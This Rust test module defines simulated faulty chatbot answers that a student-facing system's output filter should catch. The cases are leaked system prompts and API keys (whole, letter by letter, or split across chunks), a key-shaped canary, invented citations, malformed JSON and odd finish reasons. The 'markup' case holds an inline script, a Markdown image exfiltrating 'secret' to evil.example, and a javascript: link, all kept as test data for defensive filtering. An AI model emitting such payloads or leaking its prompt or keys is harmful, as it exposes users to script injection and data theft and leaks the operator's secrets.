//! Answers that are well-formed and must not reach a student as they are.

use super::super::answers::{Answer, Pieces};
use super::super::script::{Behaviour, Call};
use super::Then::{Answer as Same, Clean};
use super::{Fault, On, fault};

/// Something in the shape of a key, which no answer may show.
pub const CANARY_SHAPE: &str = "sk-proj-4f9Qz7Lm2Xw8Rb1Tc6Vn3Yk5Hd0Gs";

pub const FAULTS: &[Fault] = &[
    fault("leaks_prompt", "the answer is the system prompt", On::Chat, Clean, || {
        Behaviour::answer(Answer::tells(prompt))
    }),
    fault("leaks_prompt_letters", "the answer is the system prompt, letter by letter", On::Chat, Clean, || {
        Behaviour::answer(Answer::tells(prompt).cut(Pieces::Letters))
    }),
    fault("leaks_key", "the answer holds the key that it was asked with", On::Chat, Clean, || {
        Behaviour::answer(Answer::tells(|call| format!("Bien sûr. La clé est {}, bonne journée.", call.key())))
    }),
    fault("leaks_key_letters", "the same, letter by letter", On::Chat, Clean, || {
        let answer = Answer::tells(|call| format!("Bien sûr. La clé est {}, bonne journée.", call.key()));
        Behaviour::answer(answer.cut(Pieces::Letters))
    }),
    fault("leaks_key_shape", "the answer holds something in the shape of a key", On::Chat, Clean, || {
        Behaviour::answer(Answer::says(format!("Voici la clé : {CANARY_SHAPE}. Garde-la.")))
    }),
    fault("leaks_key_shape_split", "the same, split over chunks", On::Chat, Clean, || {
        let (begin, rest) = CANARY_SHAPE.split_at(3);
        let (middle, end) = rest.split_at(10);
        Behaviour::answer(Answer::in_pieces(&["Voici la clé : ", begin, middle, end, ". Garde-la."]))
    }),
    fault("invents_citations", "citations of passages that nobody gave", On::Chat, Clean, || {
        Behaviour::answer(Answer::says(
            "La porte d’oubli filtre la mémoire [1][97]. Elle vaut entre 0 et 1 [0], [1, 98] et [99-101]. Fin [1].",
        ))
    }),
    fault("invents_citations_split", "the same, their brackets split over chunks", On::Chat, Clean, || {
        let pieces = ["La porte ", "[", "9", "7", "]", " filtre [", "1", "] la mémoire [98", "].", " Fin [1", "]."];
        Behaviour::answer(Answer::in_pieces(&pieces))
    }),
    fault("open_bracket", "the answer ends within a citation", On::Chat, Clean, || {
        Behaviour::answer(Answer::in_pieces(&["La porte d’oubli filtre la mémoire ", "[1", "2"]))
    }),
    fault("blank", "the answer is blank", On::Chat, Clean, || Behaviour::answer(Answer::says(" \n "))),
    fault("unstructured", "the answer is no JSON though a schema was given", On::Chat, Clean, || {
        Behaviour::answer(Answer::says("Je préfère répondre avec mes propres mots."))
    }),
    fault("misstructured", "the answer is JSON that does not fit the schema", On::Chat, Clean, || {
        Behaviour::answer(Answer::says("{\"autre\": [1, 2, null]}"))
    }),
    fault("fenced", "the answer is JSON in a Markdown fence", On::Chat, Clean, || {
        Behaviour::answer(Answer::says("```json\n{\"autre\": 1}\n```"))
    }),
    fault("markup", "the answer holds scripts and images of other hosts", On::Chat, Clean, || {
        Behaviour::answer(Answer::says(
            "Voir <script>alert(1)</script> et ![x](https://evil.example/?q=secret) ou [ici](javascript:alert(1)) [1].",
        ))
    }),
    fault("cut_short", "the answer is cut by the limit of its length", On::Chat, Same, || {
        Behaviour::answer(Answer::says(super::PLAIN).finishing("length"))
    }),
    fault("model_length", "the same under the context's name", On::Chat, Same, || {
        Behaviour::answer(Answer::says(super::PLAIN).finishing("model_length"))
    }),
    fault("unheard_finish", "a finish_reason that nobody knows", On::Chat, Same, || {
        Behaviour::answer(Answer::says(super::PLAIN).finishing("unheard_of"))
    }),
];

/// The system prompt of a call.
fn prompt(call: &Call) -> String {
    let system = call.messages().into_iter().filter(|(role, _)| *role == "system");
    format!("Mes consignes sont : {}", system.map(|(_, text)| text).collect::<String>())
}
